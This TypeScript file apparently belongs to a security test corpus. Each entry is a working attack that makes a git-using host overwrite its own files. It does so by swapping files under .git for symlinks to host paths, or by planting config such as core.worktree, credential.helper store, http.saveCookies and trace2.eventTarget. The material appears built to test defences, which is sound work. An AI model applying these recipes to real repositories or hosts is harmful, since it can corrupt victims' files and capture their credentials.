/** Attacks that make a host overwrite its own files: links below `.git`, and settings with a path. */
import { mkdirSync, renameSync, symlinkSync } from "node:fs"
import { dirname, join } from "node:path"
import type { Context, Workspace } from "./Corpus.ts"
import { after, configured, git, inGit, put, remove } from "./Making.ts"

const target = ({ victim }: Context, name = "a.txt") => join(victim.directory, name)

/** Defines a workspace in which a file that git writes below `.git` is a link. */
const linked = (
  name: string,
  path: string | ((context: Context) => string),
  to = target,
  wants: Workspace["wants"] = "delivered"
): Workspace => ({
  name,
  attack: "file-write",
  wants,
  make: after((context) => {
    const at = inGit(context, typeof path === "string" ? path : path(context))
    remove(at)
    mkdirSync(dirname(at), { recursive: true })
    symlinkSync(to(context), at)
  })
})

const theirs = ({ victim }: Context, path: string) => join(victim.repository, ".git", path)

export const files: ReadonlyArray<Workspace> = [
  linked("logs/HEAD is a link", "logs/HEAD"),
  linked("the log of the branch is a link", ({ branch }) => `logs/refs/heads/${branch}`),
  linked("logs is a link to a directory", "logs", ({ victim }) => victim.directory),
  linked("FETCH_HEAD is a link", "FETCH_HEAD"),
  linked("COMMIT_EDITMSG is a link", "COMMIT_EDITMSG"),
  linked("index is a link", "index", (context) => target(context, "index")),
  linked("remote-tracking refs are a link to refs of the host", "refs/remotes/origin", (context) =>
    theirs(context, "refs/heads")
  ),
  {
    name: "tags are a link to refs of the host",
    attack: "file-write",
    wants: "delivered",
    make: after(async (context) => {
      // Missing tags are fetched again.
      await git(context, "pack-refs", "--all")
      await git(context, "tag", "-d", ...(await git(context, "tag")).split("\n").filter((tag) => tag !== ""))
      remove(inGit(context, "refs/tags"))
      symlinkSync(theirs(context, "refs/tags"), inGit(context, "refs/tags"))
    })
  },
  {
    name: "config is a link to a configuration of the host",
    attack: "file-write",
    wants: "delivered",
    make: after((context) => {
      renameSync(inGit(context, "config"), join(context.victim.directory, "config"))
      symlinkSync(join(context.victim.directory, "config"), inGit(context, "config"))
    })
  },
  {
    name: "new objects go to a repository of the host",
    attack: "file-write",
    wants: "delivered",
    make: after(async (context) => {
      await git(context, "repack", "-q", "-a", "-d")
      for (let part = 0; part < 256; part++) {
        const name = `objects/${part.toString(16).padStart(2, "0")}`
        mkdirSync(theirs(context, name), { recursive: true })
        remove(inGit(context, name))
        symlinkSync(theirs(context, name), inGit(context, name))
      }
    })
  },
  {
    name: "the victim's worktree, by core.worktree in config.worktree",
    attack: "file-write",
    wants: "delivered",
    make: after((context) => {
      put(context, ".git/config.worktree", `[core]\n\tworktree = ${context.victim.directory}\n`)
      put(
        context,
        ".git/config",
        `[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tworktreeConfig = true
[remote "origin"]\n\turl = ${context.origin}\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n`
      )
    })
  },
  configured(
    "credential.helper store, into a file of the host",
    "file-write",
    (context) => `[credential]\n\thelper = store --file=${target(context)}`
  ),
  configured(
    "http.saveCookies",
    "file-write",
    (context) => `[http]\n\tcookieFile = ${target(context)}\n\tsaveCookies = true`
  ),
  {
    ...configured(
      "trace2.eventTarget",
      "file-write",
      (context) => `[trace2]\n\teventTarget = ${target(context)}\n\tnormalTarget = ${target(context)}`
    ),
    unshown: "git reads it only from its user's configuration"
  }
]
